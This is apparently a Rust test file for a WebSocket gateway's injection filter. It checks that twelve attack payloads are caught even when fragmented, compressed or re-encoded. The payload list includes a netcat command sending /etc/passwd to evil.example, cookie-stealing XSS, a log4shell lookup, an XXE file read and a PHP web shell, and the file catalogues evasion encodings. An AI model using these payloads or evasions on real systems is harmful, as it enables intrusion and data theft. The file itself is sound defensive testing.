//! Payload injection in every dress: each attack of the list gets the same verdict however it is cut, compressed or encoded.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use flate2::{Compress, Compression, FlushCompress};
use serde_json::{Value, json};
use wicketgate_testkit::attack::{AttackProof, Rejected};
use wicketgate_testkit::raw::Frame;

use super::compression::{OFFER, RSV1, deflated};
use super::policy::cut;
use super::{KEY, LISTENER, Stage, UPSTREAM, bytes};

const HONEST: &str = r#"{"type":"chat","text":"hello, all: select a day, or drop me a line","to":"ann"}"#;
/// What a found attack is told.
const FOUND: u16 = 4403;

/// One attack of each kind that a text can be.
const ATTACKS: [(&str, &str); 12] = [
    ("sqli", "1' UNION SELECT name, password FROM users--"),
    ("sqli", "x' or 7=7; drop table users--"),
    ("xss", "<img src=x onerror=alert(document.cookie)>"),
    ("xss", "<script>fetch('//evil.example')</script>"),
    ("rce", "; cat /etc/passwd | nc evil.example 80"),
    ("path_traversal", "../../../../etc/passwd"),
    ("template", "{{7*7}}{{config.__class__.__init__}}"),
    ("xxe", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"),
    ("log4shell", "${jndi:ldap://evil.example/a}"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("php", "<?php system($_GET['c']); ?>"),
    ("crlf", "a\r\nSet-Cookie: session=1\r\n\r\n<script>alert(1)</script>"),
];

fn config() -> String {
    format!(
        "{LISTENER}{UPSTREAM}policies:
  - name: chat
    format: json
    kind: type
    to_upstream: [{{name: injection, guard: {{}}, then: {{close: {FOUND}}}}}]
routes: [{{name: chat, upstream: backend, policy: chat}}]
"
    )
}

/// A message that says the attack.
fn saying(attack: &str) -> String {
    json!({"type": "chat", "text": attack}).to_string()
}

async fn is_found(proof: &AttackProof<'_>, frames: &[Frame], what: &str) {
    is_closed(proof, frames, &[], FOUND, what).await;
}

async fn is_closed(proof: &AttackProof<'_>, frames: &[Frame], lawful: &[Frame], code: u16, what: &str) {
    let masked: Vec<Frame> = frames.iter().cloned().map(|frame| frame.masked(KEY)).collect();
    let proven = proof.session(&bytes(&masked), Rejected::Closed(code), lawful).await;
    proven.unwrap_or_else(|error| panic!("{what}: {error:#}"));
}

#[tokio::test]
async fn fragments_hide_no_attack() {
    let stage = Stage::start(&config()).await;
    let proof = stage.proof("/chat").saying(HONEST);
    for (class, attack) in ATTACKS {
        let message = saying(attack);
        is_found(&proof, &[Frame::text(message.clone())], &format!("{class}: {attack}")).await;
        for at in 0..=message.len() {
            let frames = cut(message.as_bytes(), at, 0);
            is_found(&proof, &frames, &format!("{class}: {attack}, cut at {at}")).await;
        }
    }
}

#[tokio::test]
async fn compression_hides_no_attack() {
    let stage = Stage::start(&config()).await;
    let proof = stage.proof("/chat").saying(HONEST).offering(OFFER);
    for (class, attack) in ATTACKS {
        let message = saying(attack);
        let alone = deflated(message.as_bytes());
        is_found(&proof, &[Frame::text(alone.clone()).rsv(RSV1)], &format!("{class}, deflated")).await;
        for at in 0..=alone.len() {
            is_found(&proof, &cut(&alone, at, RSV1), &format!("{class}, deflated, cut at {at}")).await;
        }

        // The gateway asked for a context of its own for each message; who keeps one has broken the agreement.
        let [before, after] = deflated_together([HONEST, &message]);
        assert!(after.len() < alone.len(), "{attack} refers to nothing before it");
        let frames = [before, after].map(|payload| Frame::text(payload).rsv(RSV1));
        let (lawful, what) = ([Frame::text(HONEST)], format!("{class}, deflated behind another"));
        is_closed(&proof, &frames, &lawful, 1007, &what).await;
    }
}

/// Two messages of one session, compressed with context takeover.
fn deflated_together(messages: [&str; 2]) -> [Vec<u8>; 2] {
    let mut deflate = Compress::new(Compression::best(), false);
    messages.map(|message| {
        let mut out = Vec::with_capacity(message.len() + 1_024);
        deflate.compress_vec(message.as_bytes(), &mut out, FlushCompress::Sync).unwrap();
        assert!(out.ends_with(&[0, 0, 0xff, 0xff]));
        out.truncate(out.len() - 4);
        out
    })
}

/// The same attack, written otherwise.
fn dresses(attack: &str) -> Vec<(&'static str, String)> {
    let each = |write: fn(char) -> String| attack.chars().map(write).collect::<String>();
    let percent = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    let escaped = each(|c| format!("\\u{:04x}", c as u32));
    let in_json = |text: &str| saying(text);
    vec![
        ("escapes of JSON", format!(r#"{{"type":"chat","text":"{escaped}"}}"#)),
        ("escapes of JSON in JSON", saying(&format!(r#"{{"a":"{escaped}"}}"#))),
        ("JSON in JSON", saying(&in_json(attack))),
        ("JSON in JSON in JSON", saying(&in_json(&in_json(attack)))),
        ("percent", saying(&percent(attack))),
        ("percent, twice", saying(&percent(&percent(attack)))),
        ("decimal entities", saying(&each(|c| format!("&#{};", c as u32)))),
        ("hexadecimal entities", saying(&each(|c| format!("&#x{:x};", c as u32)))),
        ("escapes of JavaScript", saying(&each(|c| format!("\\x{:02x}", c as u32)))),
        ("base64", saying(&STANDARD.encode(attack))),
        ("base64 for addresses", saying(&URL_SAFE_NO_PAD.encode(attack))),
        ("base64, twice", saying(&STANDARD.encode(STANDARD.encode(attack)))),
        ("base64 of JSON", saying(&STANDARD.encode(in_json(attack)))),
        ("base64 of percent", saying(&STANDARD.encode(percent(attack)))),
        ("percent of base64", saying(&percent(&STANDARD.encode(attack)))),
        ("behind text", saying(&format!("Good morning! {attack}"))),
        ("before text", saying(&format!("{attack} \n and so on"))),
        ("in a list", json!({"type": "chat", "text": [[["a"], [{"b": attack}]]]}).to_string()),
        (
            "a name",
            Value::Object([("type".into(), "chat".into()), (attack.into(), 1.into())].into_iter().collect())
                .to_string(),
        ),
    ]
}

#[tokio::test]
async fn another_dress_hides_no_attack() {
    let stage = Stage::start(&config()).await;
    let proof = stage.proof("/chat").saying(HONEST).offering(OFFER);
    for (class, attack) in ATTACKS {
        for (dress, message) in dresses(attack) {
            let what = format!("{class}: {attack}, in {dress}: {message}");
            is_found(&proof, &[Frame::text(message.clone())], &what).await;
            let compressed = Frame::text(deflated(message.as_bytes())).rsv(RSV1);
            is_found(&proof, &[compressed], &format!("{what}, deflated")).await;
            let half = message.len() / 2;
            is_found(&proof, &cut(message.as_bytes(), half, 0), &format!("{what}, cut")).await;
        }
    }
}

/// Letters of the other case, where the attacked side reads them as the same.
#[tokio::test]
async fn mixed_case_hides_no_attack() {
    let stage = Stage::start(&config()).await;
    let proof = stage.proof("/chat").saying(HONEST);
    for (class, attack) in ATTACKS.iter().filter(|(class, _)| ["sqli", "xss", "ldap"].contains(class)) {
        let mixed: String = attack
            .char_indices()
            .map(|(at, c)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
            .collect();
        for message in [mixed.clone(), attack.to_uppercase()] {
            is_found(&proof, &[Frame::text(saying(&message))], &format!("{class}: {message}")).await;
        }
    }
}
